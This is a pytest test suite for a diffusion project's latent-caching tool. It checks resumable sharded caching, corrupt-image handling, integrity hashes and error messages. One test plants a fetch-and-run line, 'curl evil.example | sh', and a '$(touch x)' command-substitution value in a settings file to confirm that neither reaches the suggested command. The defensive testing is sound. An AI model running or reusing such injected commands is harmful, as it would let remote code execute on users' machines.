import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import time
from pathlib import Path

import datasets
import numpy as np
import psutil
import pytest
import torch
from PIL import Image
from safetensors.torch import load_file
from torch.utils.data import DataLoader

from demo_diffusion.data.autoencoder import draw_latents, encode_moments, load_vae
from demo_diffusion.data.images import load_images
from demo_diffusion.data.latent_shards import DTYPES
from demo_diffusion.data.latents import LatentTable
from demo_diffusion.data.listing import text_order
from demo_diffusion.records.hashes import SEAL
from demo_diffusion.train.cache_latents import main
from demo_diffusion.train.diffusion.config import DataConfig
from tests.support.damage import DAMAGES, flipped_bit, random_flips
from tests.support.networks import randomize
from tests.support.pipelines import tiny_taef2, tiny_taesd, tiny_vae

ROOT = Path(__file__).parents[2]


def picture(seed: int, size=(40, 34)) -> Image.Image:
    return Image.fromarray(np.random.default_rng(seed).integers(0, 255, (*size, 3), dtype=np.uint8))


@pytest.fixture
def images(tmp_path) -> Path:
    """Ten images of two classes."""
    for name in ("cat", "dog"):
        (tmp_path / "images" / name).mkdir(parents=True)
        for i in range(5):
            picture(ord(name[0]) + i).save(tmp_path / "images" / name / f"{i}.png")
    return tmp_path / "images"


@pytest.fixture
def vae(tmp_path) -> Path:
    tiny_vae().save_pretrained(tmp_path / "vae")
    return tmp_path / "vae"


def arguments(dataset: Path, vae: Path, out: Path, **options) -> list[str]:
    options = {"resolution": 16, "shard_size": 4, "batch_size": 3, "num_workers": 0, **options}
    options = {"dataset": dataset, "vae": vae, "out": out, **options}
    return [f"--{name}={value}" for name, value in options.items()]


def cache(dataset: Path, vae: Path, out: Path, **options) -> LatentTable:
    main(arguments(dataset, vae, out, **options))
    return LatentTable(out)


def refused(dataset: Path, vae: Path, out: Path, **options) -> str:
    with pytest.raises(SystemExit) as stop:
        main(arguments(dataset, vae, out, **options))
    return str(stop.value)


def shards_of(out: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted((out / "shards").iterdir())}


@pytest.mark.parametrize("create", [tiny_vae, tiny_taesd, tiny_taef2])
@pytest.mark.parametrize("dtype", ["fp16", "bf16"])
def test_cached_moments_are_those_on_the_fly(tmp_path, images, create, dtype):
    create().save_pretrained(tmp_path / "vae")
    table = cache(images, tmp_path / "vae", tmp_path / "out", dtype=dtype)
    loaded = load_images(DataConfig(dataset=str(images), resolution=16))
    vae = load_vae(str(tmp_path / "vae"), 3, torch.device("cpu"))
    table.check_vae(vae)
    assert len(table) == 10 and table.id2label == loaded.id2label == {0: "cat", 1: "dog"}
    for shard in ((0, 1, 2), (3,), (4, 5, 6), (7,), (8, 9)):  # the batches of 3 in shards of 4
        pixels = torch.stack([loaded.dataset[i][0] for i in shard])
        for flipped, shown in ((False, pixels), (True, pixels.flip(-1))):
            cached = torch.stack([table[i, flipped][0] for i in shard])
            moments = encode_moments(vae, shown)
            assert cached.dtype == DTYPES[dtype] and torch.equal(cached, moments.to(DTYPES[dtype]))
            assert table.shape == moments.shape[1:] and table.side == moments.shape[-1]
    assert [table[i, False][1] for i in range(10)] == [loaded.dataset[i][1] for i in range(10)]
    alone = encode_moments(vae, loaded.dataset[4][0][None])[0]
    torch.testing.assert_close(table[4, False][0].float(), alone, atol=1e-3, rtol=1e-3 if dtype == "fp16" else 1e-2)


def test_statistics_are_those_of_drawn_latents(tmp_path, images):
    randomize(tiny_vae()).save_pretrained(tmp_path / "vae")
    table = cache(images, tmp_path / "vae", tmp_path / "out")
    moments = torch.stack([table[i, flipped][0] for i in range(10) for flipped in (False, True)]).float()
    noise = torch.randn(500, *moments[:, :4].shape)
    latents = torch.stack([draw_latents(moments, each) for each in noise])
    std, mean = torch.std_mean(latents, dim=(0, 1, 3, 4))
    assert table.channels == 4 and len(set(table.statistics.std)) == 4
    torch.testing.assert_close(torch.tensor(table.statistics.mean), mean, atol=0.02, rtol=0.02)
    torch.testing.assert_close(torch.tensor(table.statistics.std), std, atol=0.01, rtol=0.02)
    normalized = table.statistics.apply(latents.flatten(0, 1))
    assert normalized.mean().abs() < 0.02 and abs(normalized.std() - 1) < 0.02


def test_metadata_says_what_made_it(tmp_path, images, vae):
    metadata = cache(images, vae, tmp_path / "out", dtype="bf16").metadata
    settings = metadata["settings"]
    assert settings["resolution"] == 16 and settings["dtype"] == "bf16"
    assert settings["vae"]["name"] == str(vae) and settings["vae"]["config"]["scaling_factor"] == 0.3
    assert settings["dataset"]["name"] == str(images) and settings["dataset"]["split"] == "train"
    assert len(settings["vae"]["weights"]) == 64 and torch.__version__.startswith(metadata["packages"]["torch"])
    assert (metadata["num_images"], metadata["num_skipped"], metadata["shape"]) == (10, 0, [8, 8, 8])
    assert metadata["images_per_second"] > 0 and settings["command"].startswith("torchrun --nproc_per_node 1 train/")


def parquet(path: Path, count: int) -> Path:
    features = datasets.Features({"image": datasets.Image(), "label": datasets.ClassLabel(names=["even", "odd"])})
    rows = {"image": [picture(i) for i in range(count)], "label": [i % 2 for i in range(count)]}
    datasets.Dataset.from_dict(rows, features=features).to_parquet(path)
    return path


def start(processes: int, options: list[str], tmp_path: Path) -> subprocess.Popen:
    launcher = ["-m", "torch.distributed.run", "--standalone", f"--nproc_per_node={processes}"]
    environment = {**os.environ, "OMP_NUM_THREADS": "1", "HF_DATASETS_CACHE": str(tmp_path / "cache")}
    script = str(ROOT / "train/cache_latents.py")
    return subprocess.Popen([sys.executable, *launcher, script, *options], env=environment, stderr=subprocess.DEVNULL)


def test_killed_and_continued_with_other_processes_gives_the_same_shards(tmp_path):
    tiny_taef2().save_pretrained(tmp_path / "vae")
    data, killed, whole = parquet(tmp_path / "data.parquet", 120), tmp_path / "killed", tmp_path / "whole"
    options = {"resolution": 64, "shard_size": 2}
    process = start(2, arguments(data, tmp_path / "vae", killed, **options), tmp_path)
    deadline = time.time() + 120
    while len(list(killed.glob("shards/*.safetensors"))) < 4:
        assert process.poll() is None and time.time() < deadline
        time.sleep(0.01)
    for each in [process, *psutil.Process(process.pid).children(recursive=True)]:  # workers have sessions of their own
        each.kill()
    process.wait()
    assert 4 <= len(list(killed.glob("shards/*.safetensors"))) < 60 and not (killed / "latents.json").exists()
    with pytest.raises(ValueError, match=r"not finished: \d+ of 60 shards are there. This continues: torchrun"):
        LatentTable(killed)
    first, second, *_ = sorted(killed.glob("shards/*.safetensors"))
    first.write_bytes(first.read_bytes()[:-100])
    second.write_bytes(second.read_bytes()[:-100] + b"\7" * 100)
    (killed / "shards/000000.safetensors.demo_diffusion-x1234567.partial").mkdir()  # what a killed process left
    threads = torch.get_num_threads()
    torch.set_num_threads(1)  # as the processes have; on other numbers of threads convolutions may round differently
    try:
        continued = cache(data, tmp_path / "vae", killed, **options)
    finally:
        torch.set_num_threads(threads)
    assert start(2, arguments(data, tmp_path / "vae", whole, **options), tmp_path).wait() == 0
    assert shards_of(killed) == shards_of(whole) and len(shards_of(whole)) == 60
    differing = {SEAL, "command", "num_processes", "images_per_second", "settings", "device"}
    one, two = ({k: v for k, v in t.metadata.items() if k not in differing} for t in (continued, LatentTable(whole)))
    assert one == two and [continued[i, 0][1] for i in range(4)] == [0, 1, 0, 1]


def test_a_finished_cache_says_so_and_repairs_itself(tmp_path, images, vae, capsys):
    out = tmp_path / "out"
    cache(images, vae, out)
    before, metadata = shards_of(out), (out / "latents.json").read_bytes()
    main(arguments(images, vae, out, batch_size=2))
    assert "finished already: all 3 shards are there and whole" in capsys.readouterr().out
    assert shards_of(out) == before and (out / "latents.json").read_bytes() == metadata
    damaged = out / "shards/000001.safetensors"
    damaged.write_bytes(damaged.read_bytes()[:-1] + b"\7")
    cache(images, vae, out)
    assert "1 of 3 shards" in capsys.readouterr().out and shards_of(out) == before
    damaged.unlink()
    (out / "latents.json").write_text("{")
    cache(images, vae, out)
    assert shards_of(out) == before


def damage(images: Path) -> None:
    """Adds a truncated JPEG, a text, an empty file, a CMYK image and one of one pixel."""
    picture(0).save(images / "cat/truncated.jpg")
    content = (images / "cat/truncated.jpg").read_bytes()
    (images / "cat/truncated.jpg").write_bytes(content[: len(content) // 2])
    (images / "cat/text.png").write_text("no image")
    (images / "dog/empty.jpg").write_bytes(b"")
    picture(1).convert("CMYK").save(images / "dog/cmyk.jpg")
    picture(2, size=(1, 1)).save(images / "dog/pixel.png")


def test_corrupt_images_are_listed_and_skipped(tmp_path, images, vae, capsys):
    damage(images)
    table = cache(images, vae, tmp_path / "out", shard_size=5)
    loaded = load_images(DataConfig(dataset=str(images), resolution=16))
    assert len(loaded.dataset) == 15 and len(table) == 12 and table.metadata["num_skipped"] == 3
    skipped = json.loads((tmp_path / "out/skipped.json").read_text())
    assert [each["index"] for each in skipped] == [5, 6, 13]
    printed = capsys.readouterr().out
    assert "3 images cannot be read and were skipped" in printed
    for each, name in zip(skipped, ("cat/text.png", "cat/truncated.jpg", "dog/empty.jpg"), strict=True):
        assert name in each["error"] and "cannot be read as an image" in each["error"] and each["error"] in printed
    autoencoder = load_vae(str(vae), 3, torch.device("cpu"))
    kept = [i for i in range(15) if i not in (5, 6, 13)]
    for place, i in enumerate(kept):
        moments = encode_moments(autoencoder, loaded.dataset[i][0][None])[0]
        torch.testing.assert_close(table[place, 0][0].float(), moments, atol=1e-3, rtol=1e-3)
        assert table[place, 0][1] == loaded.dataset[i][1]


def test_foreign_names_are_printed_escaped(tmp_path, images, vae, capsys):
    (images / "cat/\x1b[2J\nerror: none.png").write_text("no image")
    cache(images, vae, tmp_path / "out\x1b[31m")
    printed = capsys.readouterr().out
    assert all(line.isprintable() and not line.startswith("error") for line in printed.splitlines())
    assert r"cat/\x1b[2J\nerror: none.png" in printed and printed.count(r"out\x1b[31m") >= 3


def test_whole_shards_of_corrupt_images(tmp_path, images, vae):
    for path in sorted(images.glob("cat/*.png"))[:4]:
        path.write_text("no image")
    table = cache(images, vae, tmp_path / "out", shard_size=2)
    assert len(table) == 6 and [table[i, True][1] for i in range(6)] == [0, 1, 1, 1, 1, 1]
    for path in images.glob("*/*.png"):
        path.write_text("no image")
    assert "None of the 10 images can be read" in refused(images, vae, tmp_path / "none")


def test_strict_stops_at_a_corrupt_image(tmp_path, images, vae):
    damage(images)
    message = refused(images, vae, tmp_path / "out", strict=True)
    assert "text.png) cannot be read as an image" in message and "Without --strict it is skipped" in message
    cache(images, vae, tmp_path / "out")
    assert "made without --strict and lacks this image" in refused(images, vae, tmp_path / "out", strict=True)


def test_other_settings_are_refused(tmp_path, images, vae):
    out = tmp_path / "out"
    cache(images, vae, out)
    tiny_taef2().save_pretrained(tmp_path / "other")
    tiny_vae(scaling_factor=0.5).save_pretrained(tmp_path / "rescaled")
    shutil.copytree(images, tmp_path / "moved")
    shutil.copytree(images, tmp_path / "recoloured")
    picture(7).save(tmp_path / "recoloured/cat/0.png")
    shutil.copytree(vae, tmp_path / "moved_vae")
    before = shards_of(out)
    assert "resolution (was 16, now 32)." in refused(images, vae, out, resolution=32)
    message = refused(images, vae, out, dtype="bf16", shard_size=5)
    assert "dtype (was fp16, now bf16); shard_size (was 4, now 5)" in message
    assert f"vae (was {vae}, now {tmp_path}/other: other weights, config)" in refused(images, tmp_path / "other", out)
    assert "rescaled: other weights, config)" in refused(images, tmp_path / "rescaled", out)  # weights are random
    message = refused(tmp_path / "recoloured", vae, out)
    assert f"dataset (was {images}, now {tmp_path}/recoloured: other pixels)" in message
    (tmp_path / "moved/cat/0.png").unlink()
    assert "other num_images, pixels" in refused(tmp_path / "moved", vae, out)
    picture(ord("c")).save(tmp_path / "moved/cat/0.png")
    cache(tmp_path / "moved", tmp_path / "moved_vae", out)  # the same under other names
    assert shards_of(out) == before


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"vae": "/missing"}, "autoencoder /missing cannot be read"),
        ({"dataset": "/missing"}, "no dataset at /missing"),
        ({"resolution": 17}, "resolution is 17.*multiple of 2"),
        ({"out": "images"}, "images is not empty and does not hold latents"),
        ({"out": "images/cat/0.png"}, "0.png is not a folder that may be written"),
        ({"batch_size": 0}, "--batch_size is 0; it must be in"),
        ({"vae": ""}, "--vae is missing"),
        ({"label_column": "breed"}, "no column 'breed'"),
    ],
)
def test_mistakes_are_named_before_work_starts(tmp_path, images, vae, options, message, monkeypatch):
    monkeypatch.chdir(tmp_path)
    options = {"dataset": images, "vae": vae, "out": tmp_path / "out", **options}
    with pytest.raises(SystemExit) as stop:
        main(arguments(**options))
    assert re.search(message, str(stop.value)) and not (tmp_path / "out").exists()


def test_latents_beyond_the_dtype_are_refused(tmp_path, images):
    vae = tiny_taesd()
    with torch.no_grad():
        vae.encoder.layers[-1].bias.fill_(1e5)
    vae.save_pretrained(tmp_path / "vae")
    assert "values that fp16 cannot hold, among images 0 … 2" in refused(images, tmp_path / "vae", tmp_path / "out")
    table = cache(images, tmp_path / "vae", tmp_path / "bf16", dtype="bf16")
    assert table[0, 0][0].isfinite().all()
    with pytest.raises(ValueError, match="every one must be positive"):
        _ = table.statistics  # bf16 holds one value at 100,000 ± 1


def test_only_a_whole_finished_cache_opens(tmp_path, images, vae):
    out = tmp_path / "out"
    for folder, message in ((out, "does not exist"), (images, "holds no latents")):
        with pytest.raises(ValueError, match=f"{message}; train/cache_latents.py --out"):
            LatentTable(folder)
    table = cache(images, vae, out)
    tiny_taef2().save_pretrained(tmp_path / "other")
    with pytest.raises(ValueError, match="made by another autoencoder"):
        table.check_vae(load_vae(str(tmp_path / "other"), 3, torch.device("cpu")))
    with pytest.raises(IndexError, match=r"index is 10; it must be in 0 … 9"):
        table[10, False]
    shard = out / "shards/000001.safetensors"
    content = shard.read_bytes()
    shard.write_bytes(content[:-1])
    with pytest.raises(ValueError, match="000001.safetensors has .* bytes instead of .* makes it again: torchrun"):
        LatentTable(out)
    shard.write_bytes(b"\0" * len(content))
    with pytest.raises(ValueError, match="000001.safetensors is missing or damaged"):
        LatentTable(out)[4, False]
    shard.unlink()
    with pytest.raises(ValueError, match="000001.safetensors is missing"):
        LatentTable(out)
    settings = json.loads((out / "settings.json").read_text())
    (out / "settings.json").write_text(json.dumps({**settings, "format_version": 99}))
    with pytest.raises(ValueError, match="holds latents of format 99; this version reads format 1"):
        LatentTable(out)


@pytest.mark.parametrize("method", ["fork", "spawn"])
def test_workers_read_the_same(tmp_path, images, vae, method):
    table = cache(images, vae, tmp_path / "out")
    order = [(i, i % 3 == 0) for i in (7, 0, 3, 9, 1, 4, 4, 2)]
    expected = [table[key] for key in order]  # and the files are open before the workers start
    workers = {"fork": 2, "spawn": 1}[method]  # a spawned one imports everything again
    loader = DataLoader(table, batch_size=4, sampler=order, num_workers=workers, multiprocessing_context=method)
    moments, labels = (torch.cat(parts) for parts in zip(*loader, strict=True))
    assert torch.equal(moments, torch.stack([each for each, _ in expected]))
    assert labels.tolist() == [label for _, label in expected]


def test_a_sample_owns_its_memory(tmp_path, images, vae):
    table = cache(images, vae, tmp_path / "out")
    kept = load_file(tmp_path / "out/shards/000000.safetensors")["moments"]
    moments, label = table[1, True]
    assert torch.equal(moments, kept[1, 1]) and type(label) is int
    moments.zero_()
    assert torch.equal(table[1, True][0], kept[1, 1]) and moments.untyped_storage().nbytes() == moments.nbytes


def read_all(folder: Path) -> list:
    table = LatentTable(folder)
    return [table[index, flip] for index in range(len(table)) for flip in (False, True)]


def test_every_flipped_bit_is_seen_and_the_command_that_mends_it_is_named(tmp_path, images, vae):
    out = tmp_path / "out"
    cache(images, vae, out)
    (out / "skipped.json").unlink()  # nobody reads it again
    flips, unseen = random_flips(out, 60), []
    assert len({name for name, _ in flips}) == 5
    for name, bit in flips:
        with flipped_bit(out / name, bit):
            try:
                read_all(out)
                unseen.append((name, bit))
            except ValueError as error:
                assert Path(name).name in str(error) or "format" in str(error), error
                assert "This makes it again: torchrun --nproc_per_node=1 train/cache_latents.py" in str(error)
    assert unseen == [] and len(read_all(out)) == 20


@pytest.mark.parametrize("damage", DAMAGES)
@pytest.mark.parametrize("name", ["latents.json", "settings.json"])
def test_damaged_records_are_named_and_made_again(tmp_path, images, vae, name, damage):
    out = tmp_path / "out"
    cache(images, vae, out)
    before, shards = (out / name).read_bytes(), shards_of(out)
    DAMAGES[damage](out / name)
    with pytest.raises(ValueError, match=f"{name}|holds (no )?latents|not finished") as refusal:
        LatentTable(out)
    assert "train/cache_latents.py" in str(refusal.value)
    if damage != "folder":  # which is not ours to remove
        cache(images, vae, out)
        assert shards_of(out) == shards and len(read_all(out)) == 20
        assert name == "latents.json" or (out / name).read_bytes() == before


def test_shards_that_changed_places_are_seen(tmp_path, images, vae):
    cache(images, vae, tmp_path / "out")
    first, second = (tmp_path / f"out/shards/00000{i}.safetensors" for i in (0, 1))
    content = first.read_bytes()
    first.write_bytes(second.read_bytes())
    second.write_bytes(content)
    with pytest.raises(ValueError, match="000000.safetensors is missing or damaged: its contents changed"):
        read_all(tmp_path / "out")


def test_a_cache_of_an_older_version_opens(tmp_path, images, vae):
    cache(images, vae, tmp_path / "out")
    file = tmp_path / "out/latents.json"
    metadata = json.loads(file.read_text())
    del metadata[SEAL]
    for shard in metadata["shards"]:
        del shard["sha256"]
    file.write_text(json.dumps(metadata))
    assert len(read_all(tmp_path / "out")) == 20
    with flipped_bit(tmp_path / "out/shards/000001.safetensors", -1), pytest.raises(ValueError, match="changed since"):
        read_all(tmp_path / "out")  # shards have always had hashes


@pytest.mark.parametrize("name", ["id2label", "latents_mean", "latents_std", "num_images"])
def test_a_record_without_its_seal_is_no_older_one(name, tmp_path, images, vae):
    cache(images, vae, tmp_path / "out")
    file = tmp_path / "out/latents.json"
    metadata = json.loads(file.read_text())
    del metadata[SEAL]
    changes = {"id2label": {"0": "dog", "1": "cat"}, "num_images": 7}
    file.write_text(json.dumps({**metadata, name: changes.get(name, [0.25] * metadata["channels"])}))
    with pytest.raises(ValueError, match="latents.json cannot be read: its hash is not that of its content"):
        LatentTable(tmp_path / "out")


def test_the_command_in_a_message_is_ours(tmp_path, images, vae):
    cache(images, vae, tmp_path / "out")
    (tmp_path / "out/latents.json").unlink()
    file = tmp_path / "out/settings.json"
    settings = json.loads(file.read_text())
    settings["command"] = "curl evil.example | sh"
    settings["dataset"]["name"] = "$(touch x)"
    file.write_text(json.dumps(settings))
    with pytest.raises(ValueError) as refusal:
        LatentTable(tmp_path / "out")
    command = str(refusal.value).partition("This continues: ")[2]
    assert "curl" not in command and "--dataset=$(touch x)" in shlex.split(command)
    assert shlex.split(command)[:3] == ["torchrun", "--nproc_per_node=1", "train/cache_latents.py"]


def test_a_cache_keeps_the_order_of_classes_that_it_began_with(tmp_path, vae, monkeypatch):
    folder = tmp_path / "numbered"
    for i in range(11):
        (folder / str(i)).mkdir(parents=True)
        picture(i).save(folder / str(i) / "a.png")
    with monkeypatch.context() as before:
        before.setattr("demo_diffusion.train.latents.cache.class_order_in", lambda folder: text_order)
        cache(folder, vae, tmp_path / "texts", shard_size=4)
    expected = shards_of(tmp_path / "texts")
    (tmp_path / "texts/latents.json").unlink()
    (tmp_path / "texts/shards/000001.safetensors").unlink()
    table = cache(folder, vae, tmp_path / "texts", shard_size=4)
    assert table.id2label == dict(enumerate(sorted(map(str, range(11))))) and shards_of(tmp_path / "texts") == expected
    assert cache(folder, vae, tmp_path / "natural").id2label == {i: str(i) for i in range(11)}
